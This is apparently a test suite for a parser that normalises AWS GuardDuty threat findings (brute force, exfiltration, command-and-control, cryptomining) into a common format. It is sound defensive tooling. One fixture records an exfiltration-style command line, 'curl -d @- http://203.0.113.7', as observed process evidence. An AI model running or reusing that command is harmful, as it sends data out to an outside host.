import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { guardduty } from '#electron/pipeline/normalize/formats/guardduty.ts';
import { fixture, hasSamples, only, readFindings, sample } from './read-findings.ts';

const at = { parents: [], from: '', path: '-', index: 0 };
const account = '111122223333', region = 'eu-central-1';
const bucket = 'arn:aws:s3:::example-billing-exports';

describe('guardduty', () => {
  it('reads an export and the event of the same finding alike', async () => {
    const [lines, event] = await Promise.all(['export.ndjson', 'one-event.json'].map((name) => readFindings(fixture(`guardduty/${name}`))));
    expect(lines?.format).toBe('guardduty');
    expect(lines?.findings).toHaveLength(1);
    expect(event?.findings).toEqual(lines?.findings);
    expect(lines?.findings[0]).toMatchObject({
      source_id: '16afba5c5c43e07c9e3e5e2e544e95df', kind: 'detection', issue_type: 'brute_force', attack: ['T1110'], severity_reported: 'low', status: 'open',
      entity: `arn:aws:ec2:${region}:${account}:instance/i-0a1b2c3d4e5f60719`, aliases: ['i-0a1b2c3d4e5f60719'], tags: { env: 'prod' },
      observables: { src_ip: '203.0.113.5', country: 'FR', port: 22, protocol: 'tcp', host: 'i-0a1b2c3d4e5f60719' },
      discovered_at: '2026-03-01T00:00:10Z', updated_us: Date.UTC(2026, 2, 1, 0, 25) * 1000,
    });
    expect(lines?.findings[0]?.evidence).toContain('count: 12');
  });

  it('reads every kind of resource from the API', async () => {
    const { findings, errors, records } = await readFindings(fixture('guardduty/many.json'));
    expect([records, errors]).toEqual([8, []]);
    expect(findings.map(({ entity, issue_type, kind, severity_reported }) => [entity, issue_type, kind, severity_reported])).toEqual([
      [`arn:aws:iam::${account}:role/app-role`, 'credential_exfiltration', 'detection', 'high'],
      [bucket, 'attack_sequence', 'detection', 'critical'],
      [bucket, 'public_access', 'posture', 'high'],
      [`arn:aws:eks:${region}:${account}:cluster/prod`, 'cryptomining', 'detection', 'high'],
      [`arn:aws:rds:${region}:${account}:db:billing`, 'brute_force', 'detection', 'medium'],
      [`arn:aws:lambda:${region}:${account}:function:f`, 'command_and_control', 'detection', 'medium'],
      [`arn:aws:ec2:${region}:${account}:instance/i-0a1b2c3d4e5f60719`, 'port_scan', 'detection', 'low'],
      [`arn:aws:iam::${account}:root`, 'root_account_use', 'detection', 'low'],
    ]);
  });

  it('marks samples, archived findings, and what a sequence involves', async () => {
    const { findings } = await readFindings(fixture('guardduty/many.json'));
    const of = (issue: string) => only(findings, ({ issue_type }) => issue_type === issue);
    expect(of('credential_exfiltration')).toMatchObject({ status: 'suppressed', observables: { src_ip: '198.51.100.77', country: 'VN', api: 'ListBuckets', access_key: 'ASIAIOSFODNN7EXAMPLE' } });
    expect(of('credential_exfiltration').title).toMatch(/^\[SAMPLE\] /);
    expect(of('credential_exfiltration').evidence[0]).toMatch(/^sample finding/);
    expect(of('attack_sequence')).toMatchObject({ attack: ['T1078.004', 'T1530', 'T1098'], observables: { user: 'alice', src_ip: '203.0.113.9', access_key: 'AKIAIOSFODNN7EXAMPLE' } });
    expect(of('attack_sequence').evidence).toContain(`also involved: arn:aws:iam::${account}:user/alice`);
    expect(of('port_scan').observables).toMatchObject({ port: 3389, src_ip: '203.0.113.6' });
    expect(of('brute_force').observables).toMatchObject({ user: 'admin', src_ip: '203.0.113.8' });
    expect(of('cryptomining').observables).toMatchObject({ domain: 'pool.example.com' });
  });

  it.each([[9.5, 'critical'], [9, 'critical'], [8.9, 'high'], [7, 'high'], [6.9, 'medium'], [4, 'medium'], [3.9, 'low'], [1, 'low'], ['8', 'high'], [null, 'unknown'], [{}, 'unknown'], [{ toString: [] }, 'unknown']])('bands the severity %j as %s', (severity, expected) => {
    const parsed = guardduty.parse({ id: 'a', type: 'Recon:EC2/Portscan', accountId: account, severity }, at);
    expect(parsed.ok && parsed.value.findings?.[0]?.severity_reported).toBe(expected);
  });

  it('tells the destination of an outbound connection from the source of an inbound one', () => {
    const connection = (connectionDirection: string) => ({ id: 'a', type: 'Backdoor:EC2/C&CActivity.B', accountId: account, service: { action: { networkConnectionAction: { connectionDirection, remoteIpDetails: { ipAddressV4: '203.0.113.1' }, remotePortDetails: { port: 443 }, localPortDetails: { port: 50_000 } } } } });
    const seen = (direction: string) => { const parsed = guardduty.parse(connection(direction), at); return parsed.ok ? parsed.value.findings?.[0]?.observables : undefined; };
    expect(seen('OUTBOUND')).toEqual({ dst_ip: '203.0.113.1', port: 443 });
    expect(seen('INBOUND')).toEqual({ src_ip: '203.0.113.1', port: 50_000 });
  });

  it('keeps what was found and what the attempts came to', () => {
    const read = (finding: object) => { const parsed = guardduty.parse({ id: 'a', accountId: account, region, ...finding }, at); return parsed.ok ? parsed.value.findings?.[0] : undefined; };
    const hash = 'ab'.repeat(32), object = 'arn:aws:s3:::uploads-q/x.zip';
    const file = read({ type: 'Object:S3/MaliciousFile', resource: { resourceType: 'S3Object', s3BucketDetails: [{ arn: 'arn:aws:s3:::uploads-q', s3ObjectDetails: [{ objectArn: object, key: 'x.zip', hash }] }] }, service: { malwareScanDetails: { threats: [{ name: 'EICAR-Test-File', itemPaths: [{ nestedItemPath: 'in/eicar.com' }] }] } } });
    expect([file?.entity, file?.observables?.file_hash, file?.evidence]).toEqual(['arn:aws:s3:::uploads-q', hash, ['malware: EICAR-Test-File', 'found in: in/eicar.com', `found in: ${object}`]]);
    const shard = `arn:aws:rds:${region}:${account}:shard-group:sg1`;
    const logins = read({ type: 'CredentialAccess:RDS/AnomalousBehavior.FailedLogin', resource: { resourceType: 'RDSLimitlessDB', rdsLimitlessDbDetails: { dbShardGroupArn: shard } }, service: { action: { actionType: 'RDS_LOGIN_ATTEMPT', rdsLoginAttemptAction: { loginAttributes: [{ user: 'app', failedLoginAttempts: 51, successfulLoginAttempts: 0 }] } } } });
    expect([logins?.entity, logins?.entity_type, logins?.evidence]).toEqual([shard, 'database', ['action: RDS_LOGIN_ATTEMPT', 'logins: app: 51 failed, 0 succeeded']]);
    const call = read({ type: 'Stealth:IAMUser/CloudTrailLoggingDisabled', service: { action: { awsApiCallAction: { api: 'DeleteTrail', errorCode: 'AccessDenied' } } } });
    expect(call?.evidence).toEqual(['error: AccessDenied']);
    const listed = read({ type: 'Discovery:Kubernetes/TorIPCaller', service: { action: { kubernetesApiCallAction: { verb: 'list', requestUri: '/api', sourceIPs: ['203.0.113.6'] } } } });
    expect(listed?.observables?.src_ip).toBe('203.0.113.6');
  });

  it.each([['id', { type: 'Recon:EC2/Portscan' }], ['type', { id: 'a', type: null }], ['accountId', { id: 'a', type: 'Recon:EC2/Portscan', resource: 'x', service: [] }], ['finding', 7]])('says that %s is bad', (field, record) => {
    const parsed = guardduty.parse(record, at);
    expect(parsed).toEqual({ ok: false, error: expect.stringContaining(field) });
  });

  it.each([
    ['UnauthorizedAccess:EC2/TorIPCaller', 'anomalous_behavior', ['T1090.003']], ['UnauthorizedAccess:EC2/MaliciousIPCaller.Custom', 'command_and_control', ['T1071']],
    ['DefenseImpairment:EC2/DisableOrModifyTools', 'defense_evasion', ['T1562']], ['DefenseImpairment:Organizations/ModifyCloudResourceHierarchy', 'defense_evasion', []],
    ['LateralMovement:EC2/RemoteServices', 'lateral_movement', ['T1021']], ['ResourceDevelopment:SES/CompromiseAccounts', 'anomalous_behavior', []],
    ['Persistence:IAM/AccountManipulation', 'persistence', ['T1098']], ['PrivilegeEscalation:IAM/AccountManipulation', 'privilege_escalation', ['T1098']],
    ['Exfiltration:S3/TransferDataToCloudAccount', 'data_exfiltration', ['T1537']], ['InitialAccess:RDS/ExploitPublicFacingApplication', 'public_access', ['T1190']],
  ])('knows %s, which comes in from outside or from a rule of custom detection', (type, issue_type, attack) => {
    const record = { id: 'a', type, accountId: account, region, service: { serviceName: 'guardduty' }, resource: {} };
    expect(guardduty.detect({ path: '-', text: '', document: record, records: [record], header: [], delimiter: undefined })).toBe(96);
    const parsed = guardduty.parse(record, at);
    expect(parsed.ok && parsed.value.findings).toMatchObject([{ issue_type, issue_mapped: true, attack }]);
  });

  it('knows its own findings by what they say of themselves, whatever they are of', () => {
    const record = { Id: 'a', Type: 'Tomorrow:EC2/Thing', AccountId: account, Service: { ServiceName: 'guardduty' } };
    expect(guardduty.detect({ path: '-', text: '', document: record, records: [record], header: [], delimiter: undefined })).toBe(96);
    const parsed = guardduty.parse(record, at);
    expect(parsed.ok && parsed.value.findings).toMatchObject([{ issue_type: 'Tomorrow:EC2/Thing', issue_mapped: false, kind: 'detection' }]);
  });

  it('gives each of several buckets its own tags', () => {
    const s3BucketDetails = ['a', 'b', 'c'].map((name) => ({ arn: `arn:aws:s3:::shop-${name}`, name: `shop-${name}`, ...(name !== 'c' && { tags: [{ key: 'owner', value: `team-${name}` }] }) }));
    const parsed = guardduty.parse({ id: 'a', type: 'Discovery:S3/AnomalousBehavior', accountId: account, region, resource: { resourceType: 'S3Bucket', s3BucketDetails } }, at);
    expect(parsed.ok && parsed.value.findings?.map((f) => [f.entity, f.tags])).toEqual([['arn:aws:s3:::shop-a', { owner: 'team-a' }], ['arn:aws:s3:::shop-b', { owner: 'team-b' }], ['arn:aws:s3:::shop-c', undefined]]);
  });

  it('knows the key of a sequence for its user’s', () => {
    const resources = [{ uid: 'AKIAIOSFODNN7EXAMPLE', name: 'AKIAIOSFODNN7EXAMPLE', resourceType: 'ACCESS_KEY', accountId: account, region, data: { accessKey: { principalId: 'AIDAEXAMPLE', userName: 'alice', userType: 'IAMUser' } } }];
    const parsed = guardduty.parse({ id: 'a', type: 'AttackSequence:IAM/CompromisedCredentials', accountId: account, region, service: { detection: { sequence: { uid: 'u', resources, signals: [] } } } }, at);
    expect(parsed.ok && parsed.value.findings).toMatchObject([{ entity: `arn:aws:iam::${account}:user/alice`, entity_type: 'user', aliases: ['AKIAIOSFODNN7EXAMPLE'] }]);
  });

  it('keeps what a process was seen to do', () => {
    const context = { commandLineExample: 'curl -d @- http://203.0.113.7', socketPath: '/var/run/docker.sock', toolName: 'proxychains', threatFilePath: '/tmp/x', addressFamily: 'AF_UNIX' };
    const parsed = guardduty.parse({ id: 'a', type: 'Execution:Runtime/SuspiciousTool', accountId: account, region, resource: { resourceType: 'Container', containerDetails: { name: null, image: 'shop/api:2' }, instanceDetails: { instanceId: 'i-0a1b2c3d4e5f60719' } }, service: { runtimeDetails: { process: { executablePath: '/usr/bin/curl' }, context } } }, at);
    expect(parsed.ok && parsed.value.findings?.[0]?.evidence).toEqual(['command: curl -d @- http://203.0.113.7', 'tool: proxychains', 'socket: /var/run/docker.sock', 'threat file: /tmp/x', 'image: shop/api:2']);
  });

  it('takes the account for what the switch of the account is about, and says which way a connection went', () => {
    const off = guardduty.parse({ id: 'a', type: 'Policy:S3/AccountBlockPublicAccessDisabled', accountId: account, region, resource: { resourceType: 'AccessKey', accessKeyDetails: { accessKeyId: 'AKIAIOSFODNN7EXAMPLE', userName: 'alice', userType: 'IAMUser' } } }, at);
    expect(off.ok && off.value.findings).toMatchObject([{ entity: `arn:aws:iam::${account}:root`, entity_type: 'account', issue_type: 'public_access', observables: { user: 'alice' } }]);
    const out = guardduty.parse({ id: 'a', type: 'UnauthorizedAccess:EC2/SSHBruteForce', accountId: account, service: { resourceRole: 'ACTOR', action: { networkConnectionAction: { connectionDirection: 'OUTBOUND' } } } }, at);
    expect(out.ok && out.value.findings?.[0]?.evidence).toEqual(['resource role: ACTOR', 'direction: OUTBOUND']);
  });

  it('never throws on any JSON', () => {
    fc.assert(fc.property(fc.jsonValue(), (value) => {
      expect(() => guardduty.parse(value, at)).not.toThrow();
      expect(guardduty.detect({ path: '-', text: '', document: value, records: [value], header: [], delimiter: undefined })).toBe(0);
    }));
    fc.assert(fc.property(fc.constantFrom('resource', 'service', 'severity', 'title', 'type', 'region'), fc.constantFrom('AttackSequence:S3/CompromisedData', 'Policy:IAMUser/RootCredentialUsage'), fc.jsonValue(), (key, type, value) => {
      expect(() => guardduty.parse({ id: 'a', type, accountId: account, service: { detection: { sequence: value } }, [key]: value }, at)).not.toThrow();
    }), { numRuns: 500 });
  });
});

describe.skipIf(!hasSamples)('guardduty samples', () => {
  it('reads the native findings', async () => {
    const { format, records, findings, errors } = await readFindings(sample('aws-guardduty/1-panther-native.ndjson'));
    expect([format, records, errors]).toEqual(['guardduty', 8, []]);
    expect(findings.map(({ severity_reported }) => severity_reported)).toEqual(['critical', 'critical', 'high', 'high', 'low', 'low', 'medium', 'medium']);
    expect(findings.filter(({ title }) => title.startsWith('[SAMPLE]'))).toHaveLength(4);
    expect(findings[0]).toMatchObject({
      entity: 'arn:aws:iam::111122223333:user/john_doe', issue_type: 'attack_sequence', account: '123456789012', discovered_at: '2025-02-25T20:40:06Z',
      attack: ['T1562.008', 'T1098.003', 'T1078.004', 'T1087.004', 'T1098'],
    });
    expect(findings[2]).toMatchObject({ entity: 'arn:aws:iam::123456789012:role/IAMRole', entity_type: 'role', issue_type: 'privilege_escalation', observables: { api: 'PutRolePolicy' } });
  });

  it('reads the event', async () => {
    const { records, findings } = await readFindings(sample('aws-guardduty/2-c7n-eventbridge-ec2.json'));
    expect(records).toBe(1);
    expect(findings[0]).toMatchObject({ entity: 'arn:aws:ec2:us-east-1:883606788610:instance/i-99999999', issue_type: 'command_and_control', severity_reported: 'medium', discovered_at: '2017-12-08T15:32:49Z', attack: ['T1071.004'] });
  });
});
